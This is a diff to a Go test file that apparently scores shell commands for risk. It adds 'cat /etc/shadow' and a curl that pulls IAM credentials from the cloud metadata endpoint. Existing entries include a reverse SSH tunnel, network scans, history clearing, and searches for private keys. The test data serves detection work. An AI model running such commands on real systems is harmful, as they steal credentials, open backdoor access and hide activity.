@@ -43,6 +43,8 @@ func TestCommands(t *testing.T) {
 		"a way back in":                  {"ssh -N -R 0.0.0.0:2222:localhost:22 a@198.51.100.7", 10},
 		"a scan of a network":            {"nmap -sT -p 443,10250 10.0.0.0/16", 10},
 		"tracks that are covered":        {"bash -c history -c", 10},
+		"the passwords":                  {"cat /etc/shadow", 10},
+		"the identity of a node":         {"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node", 10},
 		"a scan of a host":               {"nmap -p 443 web", 6},
 		"the environment of others":      {"cat /proc/1/environ", 6},
 		"keys on the disk":               {"find / -name id_rsa -o -name id_ed25519", 6},
